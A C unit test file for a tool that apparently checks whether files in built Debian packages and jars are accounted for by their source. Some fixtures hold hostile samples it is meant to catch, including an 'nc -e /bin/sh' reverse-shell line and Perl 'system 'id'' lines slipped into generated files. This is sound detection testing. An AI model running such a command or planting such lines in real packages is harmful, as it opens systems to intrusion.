/*
 * Small rungs: names of programs, code without a matcher, white space, what build tools write into jars.
 */
#include "match/bindings.h"
#include "match/made_source.h"
#include "match/residue.h"
#include "match_fixture.h"

#include <stdio.h>

static size_t unclaimed(struct pl_file *f)
{
    return (size_t)pl_ledger_unclaimed(&f->ledger);
}

static void a_program_that_no_source_names_is_an_error(void **state)
{
    add_source(0, "Makefile", "bin_PROGRAMS = greet\n");
    struct pl_file *known = add_file("data.tar.xz!/usr/bin/greet", "\x7f"
                                                                   "ELF");
    struct pl_file *stranger = add_file("data.tar.xz!/usr/bin/beacond", "\x7f"
                                                                        "ELF");
    known->kind = stranger->kind = "elf-x86_64";
    apply("code.stranger", known);
    apply("code.stranger", stranger);
    assert_int_equal(known->findings.list.n, 0);
    assert_int_equal(stranger->findings.list.n, 1);
    assert_string_equal(stranger->findings.list.v[0].tag, "file.unaccounted");
    assert_int_equal(stranger->findings.list.v[0].severity, PL_SEVERITY_ERROR);
}

static void meson_names_a_library_without_its_lib(void **state)
{
    (void)state;
    add_source(0, "meson.build", "library('gstpython', 'main.c')\n");
    struct pl_file *known = add_file("data.tar.xz!/usr/lib/libgstpython.so", "\x7f"
                                                                             "ELF");
    struct pl_file *program = add_file("data.tar.xz!/usr/bin/libgstpython", "\x7f"
                                                                            "ELF");
    known->kind = program->kind = "elf-x86_64";
    apply("code.stranger", known);
    apply("code.stranger", program);
    assert_int_equal(known->findings.list.n, 0);
    assert_int_equal(program->findings.list.n, 1);
}

/* Behind a dot in a library's name stands more of it, up to its end: dh-lua's have the version of the interpreter there. */
static void a_word_behind_a_dot_names_a_library(void **state)
{
    add_source(0, "debian/lua5.1.dh-lua.conf", "PKG_NAME=cjson\n");
    struct pl_file *known = add_file("data.tar.xz!/usr/lib/liblua5.1-cjson.so.0.0.0", "\x7f"
                                                                                      "ELF");
    struct pl_file *stranger = add_file("data.tar.xz!/usr/lib/liblua5.1-beacon.so.0.0.cjson", "\x7f"
                                                                                              "ELF");
    known->kind = stranger->kind = "elf-x86_64";
    apply("code.stranger", known);
    apply("code.stranger", stranger);
    assert_int_equal(known->findings.list.n, 0);
    assert_int_equal(stranger->findings.list.n, 1);
}

/* A part of what a build file names; a script without C in it writes none. */
static void a_generator_of_the_source_writes_a_part_of_what_is_built(void **state)
{
    add_source(0, "meson.build", "shared_library('letters', x)\n");
    add_source(0, "tools/gen.py", "print('int x;')\n");
    add_source(1, "tools/other.py", "print('#include <stdio.h>')\n");
    struct pl_file *f = add_file("data.tar.xz!/usr/lib/libletters.so.1", "");
    struct pl_file *other = add_file("data.tar.xz!/usr/lib/libbeacon.so.1", "");
    apply("same.bytes", f);
    assert_null(pl_bindings_part(&m, f)); /* that of a dependency is none */
    (void)tear_down(state);
    assert_int_equal(set_up(state), 0);
    add_source(0, "meson.build", "shared_library('letters', x)\n");
    add_source(0, "tools/gen.py", "print('#include <stdio.h>')\n");
    f = add_file("data.tar.xz!/usr/lib/libletters.so.1", "");
    other = add_file("data.tar.xz!/usr/lib/libbeacon.so.1", "");
    apply("same.bytes", f);
    assert_non_null(pl_bindings_part(&m, f));
    assert_null(pl_bindings_part(&m, other));
}

/* A template that a script fills in, and a name that a build file puts together. */
static void a_template_of_the_source_writes_a_part_of_what_is_built(void **state)
{
    (void)state;
    add_source(0, "meson.build",
               "# {x}_letters\nexecutable(mojom['name'] + '_letters', x)\nexecutable('_beacon_')\n");
    add_source(0, "tools/a.h.tmpl", "#include <stdio.h>\n{% for x in apples %}int x;{% endfor %}\n");
    struct pl_file *f = add_file("data.tar.xz!/usr/lib/apples_letters", "");
    struct pl_file *unknown = add_file("data.tar.xz!/usr/lib/pears_letters", "");
    struct pl_file *other = add_file("data.tar.xz!/usr/lib/apples_beacon", "");
    apply("same.bytes", f);
    assert_non_null(pl_bindings_part(&m, f));
    assert_null(pl_bindings_part(&m, unknown));
    assert_null(pl_bindings_part(&m, other));
    (void)tear_down(state);
    assert_int_equal(set_up(state), 0);
    add_source(0, "meson.build", "executable('apples_letters', x)\n");
    add_source(0, "tools/a.h.tmpl", "#include <stdio.h>\nint x;\n");
    f = add_file("data.tar.xz!/usr/lib/apples_letters", "");
    apply("same.bytes", f);
    assert_null(pl_bindings_part(&m, f)); /* nothing is filled in */
}

static void a_made_source_is_known_by_the_name_of_its_input(void **state)
{
    add_source(0, "lib/Data/XS.xs", "MODULE = XS\n");
    add_source(0, "cpp/cexp.y", "%%\n");
    struct pl_file *f = add_file("x", "");
    apply("same.bytes", f);
    assert_non_null(pl_made_source_input(&m, PL_LIT("temp/XS.c")));
    assert_non_null(pl_made_source_input(&m, PL_LIT("cexp.tab.c")));
    assert_null(pl_made_source_input(&m, PL_LIT("temp/XS.so")));
    assert_null(pl_made_source_input(&m, PL_LIT("temp/other.c")));
    assert_null(pl_made_source_input(&m, PL_LIT(".c")));
    (void)state;
}

#define BOOTSTRAP                                                                                            \
    "# Letters DynaLoader bootstrap file for linux architecture.\n"                                          \
    "# Do not edit this file, changes will be lost.\n# This file was automatically generated by the\n"       \
    "# Mkbootstrap routine in ExtUtils::Mkbootstrap (v7.64).\n"

static void the_head_of_a_bootstrap_file_is_perls(void **state)
{
    add_source(0, "Letters_BS", "nothing\n");
    struct pl_file *known = add_file("data.tar.xz!/usr/lib/perl5/auto/Letters/Letters.bs", BOOTSTRAP "$x;\n");
    struct pl_file *other = add_file("data.tar.xz!/usr/lib/perl5/auto/Words/Words.bs", BOOTSTRAP "$x;\n");
    struct pl_file *script = add_file("data.tar.xz!/usr/bin/Letters", BOOTSTRAP "$x;\n");
    apply("perl.bootstrap", known);
    apply("perl.bootstrap", other);
    apply("perl.bootstrap", script);
    assert_int_equal(unclaimed(known), 4);
    assert_int_equal(unclaimed(other), other->size);
    assert_int_equal(unclaimed(script), script->size);
    (void)state;
}

/* What ExtUtils::Depends writes, with these flags and this line behind it. */
static struct pl_file *add_depends(const char *name, const char *flags, const char *more)
{
    static char texts[4][2048];
    static unsigned n;
    char *text = texts[n++ % 4];
    (void)snprintf(
        text, sizeof texts[0],
        "package A::B::Install::Files;\n\n$self = {\n          'deps' => [],\n          'inc' => %s,\n"
        "          'typemaps' => [\n                          'typemap',\n"
        "                          'b.map'\n                        ]\n        };\n\n"
        "@deps = @{ $self->{deps} };\n@typemaps = @{ $self->{typemaps} };\n$libs = $self->{libs};\n"
        "$inc = $self->{inc};\n\n\t$CORE = undef;\n\tforeach (@INC) {\n\t\tif ( -f $_ . "
        "\"/A/B/Install/Files.pm\") {\n\t\t\t$CORE = $_ . \"/A/B/Install/\";\n\t\t\tlast;\n\t\t}\n\t}\n\n"
        "\tsub deps { @{ $self->{deps} }; }\n\n\tsub Inline {\n\t\tmy ($class, $lang) = @_;\n"
        "\t\t+{ map { (uc($_) => $self->{$_}) } qw(inc libs typemaps) };\n\t}\n\n1;\n%s",
        flags, more);
    return add_file(name, text);
}

static void what_an_extension_says_to_others_is_made(void **state)
{
    (void)state;
    add_source(0, "Makefile.PL", "use ExtUtils::Depends;\n");
    struct pl_file *made = add_depends("usr/lib/perl5/A/B/Install/Files.pm", "'-I. -lb'", "");
    struct pl_file *moved = add_depends("usr/lib/perl5/A/C/Install/Files.pm", "'-I. -lb'", "");
    struct pl_file *more = add_depends("usr/lib/perl5/A/B/Install/Files.pm", "'-I. -lb'", "system 'id';\n");
    struct pl_file *runs = add_depends("usr/lib/perl5/A/B/Install/Files.pm", "`id`", "");
    apply("perl.depends", made);
    apply("perl.depends", moved);
    apply("perl.depends", more);
    apply("perl.depends", runs);
    assert_int_equal(unclaimed(made), 0);
    assert_int_equal(unclaimed(moved), moved->size);
    assert_int_equal(unclaimed(more), more->size);
    assert_int_equal(unclaimed(runs), runs->size);
}

static void an_index_of_autosplit_declares_and_runs_nothing(void **state)
{
#define INDEX "# Index created by AutoSplit for ../blib/lib/A/B.pm\n#    (file acts as timestamp)\n"
    (void)state;
    add_source(0, "lib/B.pm", "package A::B;\n");
    struct pl_file *made =
        add_file("usr/lib/perl5/auto/A/B/autosplit.ix", INDEX "package A::B;\nsub f ($$) ;\n1;\n");
    struct pl_file *optional =
        add_file("usr/lib/perl5/auto/A/B/autosplit.ix", INDEX "package A::B;\nsub f  (;$);\nsub g   ;\n1;\n");
    struct pl_file *hidden =
        add_file("usr/lib/perl5/auto/A/B/autosplit.ix", INDEX "sub f ($); system('id');\n1;\n");
    struct pl_file *runs =
        add_file("usr/lib/perl5/auto/A/B/autosplit.ix", INDEX "sub f { system 'id' }\n1;\n");
    struct pl_file *more = add_file("usr/lib/perl5/auto/A/B/autosplit.ix", INDEX "1;\nsystem 'id';\n");
    apply("perl.autosplit", made);
    apply("perl.autosplit", optional);
    apply("perl.autosplit", hidden);
    apply("perl.autosplit", runs);
    apply("perl.autosplit", more);
    assert_int_equal(unclaimed(made), 0);
    assert_int_equal(unclaimed(runs), runs->size);
    assert_int_equal(unclaimed(more), more->size);
    assert_int_equal(unclaimed(optional), 0);
    assert_int_equal(unclaimed(hidden), hidden->size);
}

static void comments_of_autosplit_are_known_in_the_file_of_a_function(void **state)
{
#define PIECE                                                                                                \
    "# NOTE: Derived from blib/lib/A/%s.pm.\n# Changes made here will be lost when autosplit is run "        \
    "again.\n"                                                                                               \
    "# See AutoSplit.pm.\npackage A::B;\n\n#line 7 \"blib/lib/A/%s.pm (autosplit into "                      \
    "blib/lib/auto/A/B/f.al)\"\n"                                                                            \
    "sub f { 1 }\n# end of A::B::f\n1;\n"
    static const char *const modules[][2] = {{"B", "B"}, {"B", "C"}, {"C", "C"}};
    static char texts[3][512];
    size_t line = strlen("#line 7 \"blib/lib/A/C.pm (autosplit into blib/lib/auto/A/B/f.al)\"\n");
    size_t others = strlen("package A::B;\n\nsub f { 1 }\n");
    (void)state;
    add_source(0, "lib/B.pm", "package A::B;\n");
    for (size_t i = 0; i < 3; i++) {
        (void)snprintf(texts[i], sizeof texts[i], PIECE, modules[i][0], modules[i][1]);
        struct pl_file *f = add_file("usr/lib/perl5/auto/A/B/f.al", texts[i]);
        apply("perl.autosplit", f);
        assert_int_equal(unclaimed(f), i == 0 ? others : i == 1 ? others + line : f->size);
    }
}

static void a_short_script_is_found_in_a_template_of_any_name_that_is_most_of_it(void **state)
{
    static const char text[] = "#!/bin/sh\ncmd=${0##*/}\nexec grep -F \"$@\"\n";
    add_source(0, "src/egrep.sh", "#!@SHELL@\ncmd=${0##*/}\nexec @grep@ @option@ \"$@\"\n");
    add_source(0, "src/any.sh", "#!@SHELL@\n@line@\n");
    struct pl_file *fgrep = add_file("data.tar.xz!/usr/bin/fgrep", text);
    struct pl_file *other =
        add_file("data.tar.xz!/usr/bin/other", "#!/bin/sh\nexec nc -e /bin/sh 192.0.2.1 53\n");
    fgrep->role = other->role = PL_ROLE_ACTIVE;
    apply("text.template", fgrep);
    apply("text.template", other);
    assert_int_equal(unclaimed(fgrep), 0);
    assert_int_equal(unclaimed(other), other->size);
}

static void a_program_of_a_source_file_of_its_name_is_none(void **state)
{
    add_source(0, "bin/unterm.c", "int main(void) { return 0; }\n");
    add_source(0, "Makefile", "bin/%: bin/%.c\n");
    struct pl_file *named = add_file("data.tar.xz!/usr/bin/unterm", "\x7f"
                                                                    "ELF");
    struct pl_file *other = add_file("data.tar.xz!/usr/bin/untermc", "\x7f"
                                                                     "ELF");
    named->kind = other->kind = "elf-x86_64";
    apply("code.stranger", named);
    apply("code.stranger", other);
    assert_int_equal(named->findings.list.n, 0);
    assert_int_equal(other->findings.list.n, 1);
}

static size_t novel_words(const char *path, const char *kind, pl_bytes data)
{
    struct pl_file *f = add_bytes(path, data);
    size_t n = 0;
    f->kind = kind;
    f->role = PL_ROLE_ACTIVE;
    apply("same.bytes", f);
    assert_int_equal(pl_residues(&m, f, &err), PL_OK);
    for (size_t i = 0; i < f->residues.n; i++)
        n += f->residues.v[i].novel_words;
    return n;
}

/* By chance eight bytes in a row are a word somewhere in 400 KB; fifteen are not. */
static void a_short_word_says_something_in_short_data_alone(void **state)
{
    static uint8_t data[400000];
    memset(data, 1, sizeof data);
    memcpy(data + 100, "AZy4A0oP", 8);
    assert_int_equal(novel_words("usr/lib/p/a.wd", "data", pl_bytes_of(data, 1000)), 1);
    assert_int_equal(novel_words("usr/lib/p/b.wd", "data", pl_bytes_of(data, sizeof data)), 0);
    memcpy(data + 100, "AZy4A0oPAZy4A0oP", 16);
    assert_int_equal(novel_words("usr/lib/p/c.wd", "data", pl_bytes_of(data, sizeof data)), 1);
}

/* Each of these is no news; an alphabet in another order is. */
static void numbers_alphabets_and_the_packages_own_names_are_known_words(void **state)
{
    (void)add_file("control.tar.xz!/control",
                   "Package: quince-bin\nSource: quince\nVersion: 7.81.0a\nArchitecture: amd64\n");
    add_source(0, "a.txt", "apples\n");
    static const struct {
        const char *text;
        size_t novel;
    } cases[] = {
        {"19062 apples 8080\n", 0},         {"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_\n", 0},
        {"abcdefghijklmnopqrstuvwxy\n", 1}, {"qwertyuiopasdfghjklzxcvbnmQWERTYUIOP\n", 1},
        {"quince amd64 apples\n", 0},       {"quinces apples\n", 1}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        assert_int_equal(novel_words("usr/lib/p/a.txt", "shell", pl_bytes_of_str(cases[i].text)),
                         cases[i].novel);
}

static void words_of_the_machine_are_no_news(void **state)
{
    add_source(0, "a.txt", "apples\n");
    assert_int_equal(novel_words("usr/lib/p/a.pc", "text", PL_LIT("libdir=x86_64-linux-gnu/apples\n")), 1);
    assert_int_equal(novel_words("usr/lib/p/b.pc", "text", PL_LIT("x86_64-linux-gnu/linuxes\n")), 1);
}

static void two_joined_words_are_known_in_a_makefile_and_not_in_a_script(void **state)
{
    add_source(0, "a.mk", "CFLAGS beacon\n");
    assert_int_equal(novel_words("usr/lib/p/a.mak", "text", PL_LIT("CFLAGS_beacon CFLAGS_beacons\n")), 1);
    assert_int_equal(novel_words("usr/lib/p/a.sh", "shell", PL_LIT("CFLAGS_beacon\n")), 1);
}

/* intltool-merge(8) takes off the line below that marks what is to be translated. */
static void a_word_that_a_template_marks_is_known_in_its_file(void **state)
{
    add_source(0, "kite.desktop.in.in", "_Keywords=apples\n");
    add_source(0, "po/de.po", "apples\n");
    assert_int_equal(novel_words("usr/share/applications/kite.desktop", "config",
                                 PL_LIT("Keywords=apples\nKeywords[de]=apples;beacon\n")),
                     1);
    assert_int_equal(
        novel_words("usr/share/applications/bird.desktop", "config", PL_LIT("Keywords=apples\n")), 1);
}

/* What nothing executes: comments, and names for numbers. A literal, a value, a long word and a script are awake. */
static void words_that_nothing_executes_are_no_news(void **state)
{
    static const struct {
        const char *name;
        const char *kind;
        const char *text;
        size_t novel;
    } cases[] = {
        {"a.xml", "xml", "<!-- beacon of\nbeacons -->\n<apples/>\n", 0},
        {"b.xml", "xml", "<!-- beacon --><beacons/><!-- beacon -->\n", 1},
        {"c.xml", "xml", "<![CDATA[ <!-- beacon --> ]]>\n", 2},
        {"d.xml", "xml", "<!-- bWV0YWJvbGlzbW1ldGFib2xpc20 -->\n", 1},
        {"a.h", "c", "/* beacon\n * beacons */\n// beacon \\\n beacons\n", 0},
        {"b.h", "c", "\"/* beacon */\"\n'\"' // beacon\n", 1},
        {"c.h", "c", "apples\n/* beacon */ beacons\n", 1},
        {"d.h", "c", "#define HAVE_BEACON 1\n#  define HAVE_BEACONS\n/* #undef HAVE_X */\n#undef BEACON\n",
         0},
        {"e.h", "c", "#define BEACON \"\"\n#define BEACONS 0x10UL\n", 0},
        {"f.h", "c", "#define BEACON() 1\n#define apples \"beacons\"\n#define BEACON apples\n", 3},
        {"a.pc", "pkg-config", "# beacon\n  # beacon\napples # beacon\n", 1},
        {"a.mk", "make", "apples \\\n# beacon\n", 1},
        {"a.txt", "text", "#define BEACON 1\n# beacon\n", 1},
        {"a.sh", "shell", "# beacon\n", 1},
        {"a.py", "python", "# beacon\n", 1},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char path[64];
        (void)tear_down(state);
        assert_int_equal(set_up(state), 0);
        add_source(0, "a.txt", "apples define undef\n");
        (void)snprintf(path, sizeof path, "usr/lib/p/%s", cases[i].name);
        assert_int_equal(novel_words(path, cases[i].kind, pl_bytes_of_str(cases[i].text)), cases[i].novel);
    }
}

static void the_input_of_cython_may_be_named_beside_the_module(void **state)
{
    (void)state;
    add_source(0, "setup.py", "Extension('box.term', ['src/termmodule.pyx'])\nname = 'kite'\n");
    add_source(0, "src/termmodule.pyx", "def f(): pass\n");
    add_source(0, "src/kite.cpp", "PYBIND11_MODULE(kite, m)\n{\n}\n");
    struct pl_file *joined = add_file("data.tar.xz!/usr/lib/python3/dist-packages/kite.cpython-311.so", "");
    struct pl_file *shorter = add_file("data.tar.xz!/usr/lib/python3/dist-packages/kit.cpython-311.so", "");
    struct pl_file *module =
        add_file("data.tar.xz!/usr/lib/python3/dist-packages/box/term.cpython-311.so", "");
    struct pl_file *other = add_file("data.tar.xz!/usr/lib/python3/dist-packages/box/box.cpython-311.so", "");
    struct pl_file *part = add_file("data.tar.xz!/usr/lib/python3/dist-packages/box/ter.cpython-311.so", "");
    struct pl_file *program = add_file("data.tar.xz!/usr/lib/term.so", "");
    apply("same.bytes", module);
    assert_non_null(pl_bindings_input(&m, module));
    assert_null(pl_bindings_input(&m, other));
    assert_non_null(pl_bindings_input(&m, joined));
    assert_null(pl_bindings_input(&m, shorter));
    assert_null(pl_bindings_input(&m, part));
    assert_null(pl_bindings_input(&m, program));
}

static void the_input_of_a_generator_stands_in_a_folder_called_after_the_module(void **state)
{
    add_source(0, "sip/QtQml/qjsvalue.sip", "class QJSValue\n");
    add_source(1, "sip/QtOther/qjsvalue.sip", "class QJSValue\n");
    struct pl_file *module = add_file("data.tar.xz!/usr/lib/python3/dist-packages/PyQt5/QtQml.abi3.so", "");
    struct pl_file *tools = add_file("data.tar.xz!/usr/lib/python3/dist-packages/PyQt5/QtOther.abi3.so", "");
    struct pl_file *program = add_file("data.tar.xz!/usr/lib/QtQml.so", "");
    apply("same.bytes", module);
    assert_non_null(pl_bindings_input(&m, module));
    assert_null(pl_bindings_input(&m, tools));
    (void)tear_down(state);
    assert_int_equal(set_up(state), 0);
    add_source(0, "src/seccomp.pyx", "def f(): pass\n");
    add_source(0, "src/ldns.i", "%module ldns\n");
    module = add_file("data.tar.xz!/usr/lib/python3/dist-packages/seccomp.cpython-311.so", "");
    tools = add_file("data.tar.xz!/usr/lib/python3/dist-packages/seccom.cpython-311.so", "");
    program = add_file("data.tar.xz!/usr/lib/seccomp.so", "");
    struct pl_file *swigs = add_file("data.tar.xz!/usr/lib/python3/dist-packages/_ldns.abi3.so", "");
    struct pl_file *plain = add_file("data.tar.xz!/usr/lib/python3/dist-packages/ldns.abi3.so", "");
    apply("same.bytes", module);
    assert_non_null(pl_bindings_input(&m, module));
    assert_non_null(pl_bindings_input(&m, swigs));
    assert_null(pl_bindings_input(&m, plain));
    assert_null(pl_bindings_input(&m, tools));
    assert_null(pl_bindings_input(&m, program));
}

static void the_name_before_the_dollar_of_a_class_counts(void **state)
{
    add_source(0, "src/Outer.java", "class Outer { }\n");
    struct pl_file *inner = add_file("a.jar!/org/x/Outer$1.class", "\xca\xfe\xba\xbe");
    inner->kind = "class";
    apply("code.stranger", inner);
    assert_int_equal(inner->findings.list.n, 0);
}

static void bytecode_is_opaque_and_a_script_is_not(void **state)
{
    struct pl_file *code = add_file("a.jar!/X.class", "\xca\xfe\xba\xbe and more");
    struct pl_file *script = add_file("data.tar.xz!/usr/bin/x", "#!/bin/sh\n");
    code->kind = "class";
    script->kind = "perl"; /* begins like "pe" */
    apply("code.opaque-kind", code);
    apply("code.opaque-kind", script);
    assert_int_equal(unclaimed(code), 0);
    assert_int_equal(code->ledger.settled.v[0].class, PL_CLASS_OPAQUE);
    assert_int_equal(unclaimed(script), script->size);
}

static struct pl_file *with_gap(const char *text, size_t from, size_t to)
{
    struct pl_file *f = add_file("data.tar.xz!/usr/share/x/f", text);
    assert_int_equal(pl_match_claim(f, 0, from, PL_CLASS_TOOLCHAIN, PL_GRADE_NONE, "test", NULL, &err),
                     PL_OK);
    assert_int_equal(
        pl_match_claim(f, to, f->size - to, PL_CLASS_TOOLCHAIN, PL_GRADE_NONE, "test", NULL, &err), PL_OK);
    assert_int_equal(pl_ledger_settle(&f->ledger, &err), PL_OK);
    return f;
}

static void white_space_is_explained_up_to_its_bound_and_never_in_python(void **state)
{
    struct pl_file *brief = with_gap("ab\n\t\tcd", 2, 5);
    struct pl_file *longer = with_gap("ab                                  cd", 2, 36);
    struct pl_file *python = with_gap("if x:\n\t\ty()", 5, 8);
    struct pl_file *word = with_gap("ab x cd", 2, 5);
    python->kind = "python";
    apply("text.space", brief);
    apply("text.space", longer);
    apply("text.space", python);
    apply("text.space", word);
    assert_int_equal(unclaimed(brief), 0);
    assert_int_equal(unclaimed(longer), 34);
    assert_int_equal(unclaimed(python), 3);
    assert_int_equal(unclaimed(word), 3);
}

static void a_folded_header_of_known_words_is_explained(void **state)
{
    add_source(0, "pom.xml", "<description>utility classes considered to be so\n  standard</description>\n");
    struct pl_file *f =
        add_file("a.jar!/META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nBundle-Description: utility "
                                                "classes conside\r\n red to be sostandard\r\n");
    apply("java.metadata", f);
    assert_int_equal(unclaimed(f), 0);
}

static void a_header_that_names_code_to_run_is_never_explained_by_its_words(void **state)
{
    const char *first = "Manifest-Version: 1.0\r\n";
    const char *second = "Launcher-Agent-Class: org.known.Thing\r\n";
    char text[128];
    (void)snprintf(text, sizeof text, "%s%s", first, second);
    add_source(0, "Thing.java", "package org.known; class Thing { Launcher Agent Class }\n");
    struct pl_file *f = add_file("a.jar!/META-INF/MANIFEST.MF", text);
    uint64_t offset;
    uint64_t length;
    apply("java.metadata", f);
    assert_true(pl_ledger_gap(&f->ledger, 0, &offset, &length));
    assert_int_equal(offset, strlen(first));
    assert_int_equal(length, strlen(second));
}

static void a_header_with_a_new_word_stays(void **state)
{
    struct pl_file *f = add_file("a.jar!/META-INF/MANIFEST.MF", "Created-By: evilcorp\r\n");
    apply("java.metadata", f);
    assert_int_equal(unclaimed(f), f->size);
}

static void quotes_around_a_plain_word_say_nothing_in_shell_and_only_there(void **state)
{
    static const char source[] = "#!/bin/sh\nexec 'gzip' -cd \"$@\"\n";
    static const char built[] = "#!/bin/sh\nexec gzip -cd \"$@\"\n";
    static const char changed[] = "#!/bin/sh\nexec gzip -xd \"$@\"\n";
    add_source(0, "zcat.in", source);
    struct pl_file *same = add_file("data.tar.xz!/bin/zcat", built);
    struct pl_file *other = add_file("data.tar.xz!/usr/bin/zcat", changed);
    struct pl_file *text = add_file("data.tar.xz!/usr/share/zcat", built);
    same->kind = other->kind = "shell";
    text->kind = "text";
    apply("text.line", same);
    apply("text.line", other);
    apply("text.line", text);
    assert_int_equal(unclaimed(same), 0);
    assert_true(unclaimed(other) >= sizeof "exec gzip -xd" - 1);
    assert_true(unclaimed(text) >= sizeof "exec gzip -cd" - 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(quotes_around_a_plain_word_say_nothing_in_shell_and_only_there,
                                        set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_program_that_no_source_names_is_an_error, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_word_behind_a_dot_names_a_library, set_up, tear_down),
        cmocka_unit_test_setup_teardown(meson_names_a_library_without_its_lib, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_template_of_the_source_writes_a_part_of_what_is_built, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(words_that_nothing_executes_are_no_news, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_word_that_a_template_marks_is_known_in_its_file, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_generator_of_the_source_writes_a_part_of_what_is_built, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(a_made_source_is_known_by_the_name_of_its_input, set_up, tear_down),
        cmocka_unit_test_setup_teardown(the_input_of_cython_may_be_named_beside_the_module, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(the_head_of_a_bootstrap_file_is_perls, set_up, tear_down),
        cmocka_unit_test_setup_teardown(comments_of_autosplit_are_known_in_the_file_of_a_function, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(an_index_of_autosplit_declares_and_runs_nothing, set_up, tear_down),
        cmocka_unit_test_setup_teardown(what_an_extension_says_to_others_is_made, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_short_word_says_something_in_short_data_alone, set_up, tear_down),
        cmocka_unit_test_setup_teardown(numbers_alphabets_and_the_packages_own_names_are_known_words, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(words_of_the_machine_are_no_news, set_up, tear_down),
        cmocka_unit_test_setup_teardown(two_joined_words_are_known_in_a_makefile_and_not_in_a_script, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(the_input_of_a_generator_stands_in_a_folder_called_after_the_module,
                                        set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_program_of_a_source_file_of_its_name_is_none, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_short_script_is_found_in_a_template_of_any_name_that_is_most_of_it,
                                        set_up, tear_down),
        cmocka_unit_test_setup_teardown(the_name_before_the_dollar_of_a_class_counts, set_up, tear_down),
        cmocka_unit_test_setup_teardown(bytecode_is_opaque_and_a_script_is_not, set_up, tear_down),
        cmocka_unit_test_setup_teardown(white_space_is_explained_up_to_its_bound_and_never_in_python, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(a_folded_header_of_known_words_is_explained, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_header_that_names_code_to_run_is_never_explained_by_its_words,
                                        set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_header_with_a_new_word_stays, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
